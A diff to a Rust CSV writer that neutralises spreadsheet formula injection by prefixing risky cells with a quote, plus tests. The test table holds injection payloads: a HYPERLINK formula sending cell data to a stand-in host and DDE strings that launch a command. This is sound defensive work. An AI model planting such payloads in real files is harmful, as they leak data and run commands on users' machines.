@@ -3,6 +3,12 @@
 //! Workflow results and generated records share this: one object per row; CSV columns
 //! are the keys in the order they first appear, nested values written as compact JSON
 //! so no field is lost.
+//!
+//! CSV cells (and column names) come from model output, and a spreadsheet runs a cell
+//! that starts with `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a
+//! formula, which can fetch URLs or run commands: such a cell is written with a leading
+//! `'` (OWASP's advice), which spreadsheets show as text. A cell that is a plain number
+//! (`-3.5`, `+1e3`) is left as written so numbers stay numbers; no formula is a number.
 
 use std::io::Write;
 
@@ -100,14 +106,40 @@ fn cell(value: Option<&Value>) -> String {
     }
 }
 
+/// `text` made safe to open in a spreadsheet: a `'` before what would start a formula.
+fn defuse(text: String) -> String {
+    let risky = text.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    if risky && !is_plain_number(&text) {
+        format!("'{text}")
+    } else {
+        text
+    }
+}
+
+/// A decimal number with an optional sign, fraction and exponent, nothing else.
+fn is_plain_number(text: &str) -> bool {
+    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
+    let unsigned = text.strip_prefix(['+', '-']).unwrap_or(text);
+    let (mantissa, exponent) = match unsigned.split_once(['e', 'E']) {
+        Some((m, e)) => (m, Some(e.strip_prefix(['+', '-']).unwrap_or(e))),
+        None => (unsigned, None),
+    };
+    let mantissa_ok = match mantissa.split_once('.') {
+        Some((whole, fraction)) => digits(whole) && (fraction.is_empty() || digits(fraction)),
+        None => digits(mantissa),
+    };
+    mantissa_ok && exponent.is_none_or(digits)
+}
+
 fn write_csv(rows: &[Value], given: Option<&[String]>, out: impl Write) -> Result<()> {
     let columns = given
         .map(<[String]>::to_vec)
         .unwrap_or_else(|| columns(rows));
     let mut writer = csv::Writer::from_writer(out);
-    writer.write_record(&columns).map_err(write_error)?;
+    let header: Vec<String> = columns.iter().cloned().map(defuse).collect();
+    writer.write_record(&header).map_err(write_error)?;
     for row in rows {
-        let record: Vec<String> = columns.iter().map(|c| cell(row.get(c))).collect();
+        let record: Vec<String> = columns.iter().map(|c| defuse(cell(row.get(c)))).collect();
         writer.write_record(&record).map_err(write_error)?;
     }
     writer.flush().map_err(write_error)
@@ -141,5 +173,43 @@ mod tests {
             .map(|l| serde_json::from_str(l).unwrap())
             .collect();
         assert_eq!(back, rows);
+    }
+
+    /// Cells a spreadsheet would run as formulas are written as text; numbers, and
+    /// text that only contains those characters later, are left alone.
+    #[test]
+    fn csv_cells_that_would_be_formulas_are_written_as_text() {
+        let table: &[(Value, &str)] = &[
+            (
+                json!("=HYPERLINK(\"https://e.example/?\"&A1,\"x\")"),
+                "\"'=HYPERLINK(\"\"https://e.example/?\"\"&A1,\"\"x\"\")\"",
+            ),
+            (json!("+1+cmd|' /C calc'!A0"), "'+1+cmd|' /C calc'!A0"),
+            (json!("-2+3+cmd|' /C calc'!A0"), "'-2+3+cmd|' /C calc'!A0"),
+            (json!("@SUM(A1:A9)"), "'@SUM(A1:A9)"),
+            (json!("\t=1+1"), "'\t=1+1"),
+            (json!("\r=1+1"), "\"'\r=1+1\""),
+            (json!("- a list item"), "'- a list item"),
+            (json!("-"), "'-"),
+            (json!("-3.5"), "-3.5"),
+            (json!("+42"), "+42"),
+            (json!("-1e-3"), "-1e-3"),
+            (json!(-3.5), "-3.5"),
+            (json!(-7), "-7"),
+            (json!("a=b"), "a=b"),
+            (json!("plain"), "plain"),
+            (json!(" =1"), " =1"),
+        ];
+        for (value, expected) in table {
+            let rows = vec![json!({ "v": value })];
+            let csv = table_string(&rows, None, TableFormat::Csv).unwrap();
+            assert_eq!(csv, format!("v\n{expected}\n"), "for {value}");
+        }
+        let rows = vec![json!({ "=cmd": 1 })];
+        let csv = table_string(&rows, None, TableFormat::Csv).unwrap();
+        assert_eq!(csv, "'=cmd\n1\n");
+        // JSON Lines is data, not a spreadsheet: written as it is.
+        let jsonl = table_string(&[json!({ "v": "=1+1" })], None, TableFormat::Jsonl).unwrap();
+        assert_eq!(jsonl, "{\"v\":\"=1+1\"}\n");
     }
 }
